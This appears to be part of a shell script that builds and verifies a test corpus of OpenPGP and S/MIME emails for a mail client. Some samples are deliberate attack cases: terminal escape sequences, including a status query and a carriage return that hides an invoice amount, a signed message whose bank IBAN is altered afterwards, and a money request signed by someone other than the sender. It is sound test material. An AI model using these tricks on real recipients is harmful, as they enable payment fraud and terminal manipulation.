8. A status query, whose answer the terminal would type for you: @ESC@[6n
9. A carriage return that hides text: Amount due: 9000 EUR@CR@Amount due:   10 EUR
EOF

T=$(at '2026-10-06 16:02')
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>, Bob Example <bob@example.net>
Subject: Key signing list for the meetup
Message-ID: <keysigning-list@mail.example.org>
EOF
{
cat <<EOF
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

EOF
mt qp <<EOF
Hi both,

here is the list for the key signing at the meetup. Please check your
own line before Saturday; we will compare these in person at the café.

  Demo User <demo@example.org>
    $(fmtfpr "$DEMO_FPR")
  Alice Example <alice@example.org>
    $(fmtfpr "$ALICE_FPR")
  Bob Example <bob@example.net>
    $(fmtfpr "$BOB_FPR")

This list is signed with my key (OpenPGP/MIME).

Alice
EOF
} >"$W/p"
pgp_signed "$W/h" "$W/p" "$ALICE_FPR" "$((T - 30))" "=_signed_keylist" |
    put INBOX/13-pgp-signed.eml

T=$(at '2026-10-13 18:41')
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>
Subject: Meetup budget
Message-ID: <budget-enc@mail.example.org>
EOF
cat >"$W/p" <<EOF
Content-Type: multipart/mixed; boundary="=_inner_budget"

--=_inner_budget
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Demo,

the budget is attached. I encrypted this to you (and to myself), and
signed it, because it has the sponsors' amounts in it.

Alice

--=_inner_budget
Content-Type: text/csv; charset=us-ascii; name="budget.csv"
Content-Transfer-Encoding: 7bit
Content-Disposition: attachment; filename="budget.csv"

item,amount_eur
room,0
snacks,85
projector cable,12
sponsor: Example Hosting,-150

--=_inner_budget--
EOF
pgp_encrypted "$W/h" "$W/p" "$ALICE_FPR" "$((T - 25))" "=_enc_budget" \
    "$DEMO_FPR" "$ALICE_FPR" | put INBOX/14-pgp-encrypted-signed.eml

T=$(at '2026-10-19 17:10')
cat >"$W/clear" <<EOF
Hi Demo,

the slides for my lightning talk are ready: 5 slides, 5 minutes, no
animations. I will bring them on a USB stick as well.

This message is clear-signed inline, the old-fashioned way.

Bob
EOF
pgpat "$((T - 15))" -u "$BOB_FPR" --digest-algo SHA256 --clearsign \
    -o "$W/clear.asc" "$W/clear"
{
cat <<EOF
Date: $(rfcdate "$T" America/New_York)
From: Bob Example <bob@example.net>
To: Demo User <demo@example.org>
Subject: Slides for my talk
Message-ID: <slides-talk@example.net>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

EOF
cat "$W/clear.asc"
} | put INBOX/15-pgp-inline-clearsigned.eml

T=$(at '2026-10-20 06:30')
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Demo User <demo@example.org>
To: Bob Example <bob@example.net>
Subject: Re: Slides for my talk
Message-ID: <re-slides@example.org>
In-Reply-To: <slides-talk@example.net>
References: <slides-talk@example.net>
EOF
cat >"$W/p" <<EOF
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Bob Example wrote:
> the slides for my lightning talk are ready

Thanks! One remark on slide 3: the fingerprint on it is cut off after
the first 20 characters; please show all 40.

(Encrypted to you and to me, so I can read my own copy in Sent.)

Demo
EOF
pgp_encrypted "$W/h" "$W/p" "$DEMO_FPR" "$((T - 25))" "=_enc_slides" \
    "$BOB_FPR" "$DEMO_FPR" | put Sent/02-pgp-encrypted-to-bob.eml

T=$(at '2026-10-27 13:58')
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" America/New_York)
From: Bob Example <bob@example.net>
To: Demo User <demo@example.org>
Subject: Bank details for the meetup fund
Message-ID: <bank-details@example.net>
EOF
cat >"$W/p" <<EOF
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Demo,

for your share of the snacks, please transfer 20 EUR to the meetup
fund:

  IBAN  DE00 1234 5678 9012 3456 78
  Name  Bob Example

Bob
EOF
pgp_signed "$W/h" "$W/p" "$BOB_FPR" "$((T - 20))" "=_signed_bank" |
    sed 's/DE00 1234 5678 9012 3456 78/DE00 9876 5432 1098 7654 32/' |
    put INBOX/16-pgp-bad-signature.eml
grep -q 'DE00 9876' "$OUT/mail/INBOX/16-pgp-bad-signature.eml" ||
	die "tampering 16 failed"

T=$(at '2026-11-03 21:17')
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>
Subject: Room deposit
Message-ID: <room-deposit@example.net>
EOF
cat >"$W/p" <<EOF
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Demo,

the library wants a 50 EUR deposit for the room. Could you send it to
me today? The signature shows it is really me.

Alice
EOF
pgp_signed "$W/h" "$W/p" "$BOB_FPR" "$((T - 20))" "=_signed_deposit" |
    put INBOX/17-pgp-signer-not-sender.eml

T=$(at '2026-11-06 15:00')
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/London)
From: Carol Example <carol@example.net>
To: Demo User <demo@example.org>
Subject: Joining the next meetup
Message-ID: <carol-joins@example.net>
EOF
cat >"$W/p" <<EOF
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hello Demo,

Alice told me about the meetups; I would like to join the next one.
My key is not on any key server yet, I will bring the fingerprint.

Carol
EOF
pgp_signed "$W/h" "$W/p" "$CAROL_FPR" "$((T - 20))" "=_signed_carol" |
    put INBOX/18-pgp-unknown-key.eml

# S/MIME samples carry the real signing time, so they are dated now.
NOW=$(date -u +%s)
T=$((NOW + 60))
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>
Subject: Room booking confirmed
Message-ID: <smime-signed-$T@mail.example.org>
EOF
cat >"$W/p" <<EOF
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Demo,

the library confirmed the booking for the next meetup. This message
is signed with my S/MIME certificate from the Example Org Demo CA.

Alice
EOF
smime_signed "$W/h" "$W/p" "=_smime_signed_booking" |
    put INBOX/19-smime-signed.eml

T=$((NOW + 120))
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>
Subject: Photo permission form
Message-ID: <smime-opaque-$T@mail.example.org>
EOF
cat >"$W/p" <<EOF
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Demo,

I agree to the meetup photos being published on the web page.

This message is S/MIME opaque signed: the text is inside the signature
and only a client that understands S/MIME can show it.

Alice
EOF
crlf "$W/p" >"$W/canon"
openssl cms -sign -nodetach -binary -md sha256 -signer "$W/alice.crt" \
    -inkey "$W/alice.key" -in "$W/canon" -outform DER -out "$W/p7m"
smime_p7m "$W/h" signed-data | put INBOX/20-smime-opaque-signed.eml

T=$((NOW + 180))
cat >"$W/h" <<EOF
Date: $(rfcdate "$T" Europe/Berlin)
From: Alice Example <alice@example.org>
To: Demo User <demo@example.org>
Subject: Door code for the back room
Message-ID: <smime-enc-$T@mail.example.org>
EOF
cat >"$W/p" <<EOF
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

Hi Demo,

the door code for the back room is 4711. I encrypted this to your
S/MIME certificate (and mine) but did not sign it, so nothing proves
it came from me.

Alice
EOF
crlf "$W/p" >"$W/canon"
openssl cms -encrypt -binary -aes-256-cbc -in "$W/canon" -outform DER \
    -out "$W/p7m" "$W/demo.crt" "$W/alice.crt"
smime_p7m "$W/h" enveloped-data | put INBOX/21-smime-encrypted.eml

# ------------------------------------------------------------------ check

# Build a key store the way the demo account does, from the shipped files
# only, and check every signed and encrypted sample against it.
export GNUPGHOME="$W/v"
mkdir -m 700 "$GNUPGHOME"
K="$OUT/keys"
cp "$K/trustlist.txt" "$GNUPGHOME/trustlist.txt"
echo disable-dirmngr >"$GNUPGHOME/gpgsm.conf"
q() {
	"$@" >"$W/q.out" 2>&1 || { cat "$W/q.out" >&2; die "failed: $*"; }
}
q gpg --batch --import "$K/demo.sec.asc" "$K/alice.pub.asc" "$K/bob.pub.asc"
q gpg --batch --import-ownertrust "$K/ownertrust.txt"
q gpg --batch --check-trustdb
q gpgsm --batch --import "$K/smime-ca.crt.pem" "$K/smime-alice.crt.pem"
q gpgsm --batch --pinentry-mode loopback --passphrase-fd 0 \
    --import "$K/smime-demo.p12" </dev/null

M="$OUT/mail"
# pgp_check FILE EXPECTED-STATUS-REGEX
pgp_check() {
	mt signed "$M/$1" "$W/x"
	gpg --batch --status-fd 1 --verify "$W/x.sig" "$W/x.content" \
	    >"$W/st" 2>/dev/null || true
	grep -Eq "$2" "$W/st" || { cat "$W/st" >&2; die "$1: want $2"; }
	echo "ok $1: $(grep -Eo "$2" "$W/st" | head -1)"
}
pgp_check Sent/01-thread-reply-signed.eml "GOODSIG.*demo@example.org"
pgp_check INBOX/13-pgp-signed.eml "TRUST_FULLY"
pgp_check INBOX/16-pgp-bad-signature.eml "BADSIG"
pgp_check INBOX/17-pgp-signer-not-sender.eml "GOODSIG.*bob@example.net"
pgp_check INBOX/18-pgp-unknown-key.eml "NO_PUBKEY"

for f in INBOX/14-pgp-encrypted-signed.eml Sent/02-pgp-encrypted-to-bob.eml
do
	mt encrypted "$M/$f" "$W/x.asc"
	gpg --batch --yes --status-fd 1 --decrypt -o "$W/x.dec" "$W/x.asc" \
	    >"$W/st" 2>"$W/err" ||
		{ cat "$W/err" >&2; die "$f: cannot decrypt"; }
	if ! grep -q DECRYPTION_OKAY "$W/st" || ! grep -q GOODSIG "$W/st"; then
		die "$f: not decrypted and signed"
	fi
	echo "ok $f: decrypted, signed"
done

mt body "$M/INBOX/15-pgp-inline-clearsigned.eml" "$W/x"
gpg --batch --status-fd 1 --verify "$W/x" >"$W/st" 2>/dev/null ||
	die "15: bad clear signature"
grep -q "GOODSIG.*bob@example.net" "$W/st" || die "15: no GOODSIG"
echo "ok INBOX/15-pgp-inline-clearsigned.eml: GOODSIG"

mt signed "$M/INBOX/19-smime-signed.eml" "$W/x"
q openssl cms -verify -binary -inform DER -in "$W/x.sig" \
    -content "$W/x.content" -CAfile "$K/smime-ca.crt.pem" -purpose smimesign \
    -out /dev/null
gpgsm --batch --status-fd 1 --verify "$W/x.sig" "$W/x.content" \
    >"$W/st" 2>/dev/null || die "19: gpgsm cannot verify"
grep -q "TRUST_FULLY" "$W/st" || die "19: gpgsm: not fully trusted"
echo "ok INBOX/19-smime-signed.eml: openssl and gpgsm verify"

mt body "$M/INBOX/20-smime-opaque-signed.eml" "$W/x.p7m"
q openssl cms -verify -binary -inform DER -in "$W/x.p7m" \
    -CAfile "$K/smime-ca.crt.pem" -purpose smimesign -out "$W/x.out"
gpgsm --batch --status-fd 1 --verify -o "$W/x.out2" "$W/x.p7m" \
    >"$W/st" 2>/dev/null || die "20: gpgsm cannot verify"
grep -q "TRUST_FULLY" "$W/st" || die "20: gpgsm: not fully trusted"
echo "ok INBOX/20-smime-opaque-signed.eml: openssl and gpgsm verify"

mt body "$M/INBOX/21-smime-encrypted.eml" "$W/x.p7m"
q openssl cms -decrypt -binary -inform DER -in "$W/x.p7m" \
    -recip "$K/smime-demo.crt.pem" -inkey "$K/smime-demo.key.pem" \
    -out "$W/x.out"
gpgsm --batch --status-fd 1 --decrypt -o "$W/x.out2" "$W/x.p7m" \
    >"$W/st" 2>/dev/null || die "21: gpgsm cannot decrypt"
cmp -s "$W/x.out" "$W/x.out2" || die "21: openssl and gpgsm disagree"
echo "ok INBOX/21-smime-encrypted.eml: openssl and gpgsm decrypt"

# Every sample: LF line ends (the one bare CR is in 12, on purpose) and
# no address outside example.org and example.net.
CR=$(printf '\r')
for f in "$M"/*/*.eml; do
	case "$f" in
	*/12-terminal-escapes.eml) ;;
	*) ! grep -q "$CR" "$f" || die "$f: CR in a sample" ;;
	esac
	if grep -Eoh '[A-Za-z0-9._-]+@[A-Za-z0-9.-]+' "$f" |
	    grep -Ev '@([A-Za-z0-9-]+\.)*example\.(org|net)$' | grep -q .; then
		die "$f: address outside example.org/example.net"
	fi
done

rm -rf "$here/keys" "$here/mail"
cp -R "$OUT/keys" "$OUT/mail" "$here/"
echo "make-corpus: wrote $(find "$here/mail" -name '*.eml' | wc -l)" \
    "messages and $(find "$here/keys" -type f | wc -l) key files under $here"
